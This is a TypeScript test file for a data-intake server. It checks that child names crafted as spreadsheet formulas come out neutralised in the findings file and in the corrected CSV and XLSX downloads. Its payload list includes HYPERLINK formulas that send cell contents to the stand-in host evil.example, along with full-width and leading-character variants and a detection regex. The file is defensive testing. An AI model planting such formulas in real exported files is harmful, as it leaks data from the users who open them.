import { expect, test } from 'vitest'
import { downloadCorrected } from '#server/intake/correcting/download-corrected.ts'
import { writeFindingsFile } from '#server/intake/journey/findings-file.ts'
import {
  ACORN,
  csvOf,
  match,
  mustUpload,
  settingOfFile,
  range,
} from '../server/intake/journey/journey-setting.ts'

/** A child is given a name that a spreadsheet would run, in a file that its provider downloads again. */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/"&A2,"Click")',
  '=1+1\nnote',
  'Ada\n=HYPERLINK("http://evil.example")',
  'Ada\r@SUM(A1)',
  '＝HYPERLINK("http://evil.example")',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '  =1+1',
  '"=1+1"',
  "'=1+1",
  '@SUM(A1)',
  '+1',
  '-1',
  '\t=1+1',
]

const setting = settingOfFile()

/** The cells of a CSV file as a spreadsheet takes it apart. */
function cellsOf(text: string): string[] {
  const cells = text.replace('\ufeff', '').matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^",\r\n]*)/g)
  return [...cells].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}

/** Whether a spreadsheet would run it, or a line of it that is pasted. */
const RUNS = /(^|[\r\n])[\s"\0]*[=+\-@＝＋－＠\t\r\0]/

test('attack 10: [S33] names that are formulas are neutral in the file of findings and in the corrected file', async () => {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
  const bytes = csvOf(range(1, 40), (n) => {
    const formula = FORMULAS[n - 1]
    return formula === undefined ? {} : { first: quoted(formula), ref: quoted(formula) }
  })
  // What was planted would run, or the test proves nothing.
  const planted = cellsOf(new TextDecoder().decode(bytes)).filter((cell) => RUNS.test(cell))
  expect(planted.length).toBeGreaterThan(FORMULAS.length)
  const { reference } = await mustUpload(setting, bytes)
  await match(setting, reference)
  await setting.work(reference)
  const store = setting.storeOf(ACORN)
  const files = [
    await writeFindingsFile(store, ACORN, reference),
    await downloadCorrected(store, ACORN, reference),
  ]
  for (const file of files) {
    if (!file.ok) throw new Error(file.code)
    const text = await new Response(file.bytes).text()
    expect(text).toContain('HYPERLINK')
    expect(cellsOf(text).filter((cell) => RUNS.test(cell))).toEqual([])
  }
  const workbook = await downloadCorrected(store, ACORN, reference, 'xlsx')
  if (!workbook.ok) throw new Error(workbook.code)
  const xlsx = await partsOf(await new Response(workbook.bytes).bytes())
  expect(xlsx).toContain('HYPERLINK')
  // Texts alone: no formula, no link and no name that is one.
  expect(xlsx).not.toMatch(/<f[ >]|<hyperlink|<definedName|externalLink/)
})

/** All that stands in the parts of a workbook. */
async function partsOf(bytes: Uint8Array): Promise<string> {
  const { unzipSync, strFromU8 } = await import('fflate')
  return Object.values(unzipSync(bytes))
    .map((part) => strFromU8(part))
    .join('\n')
}
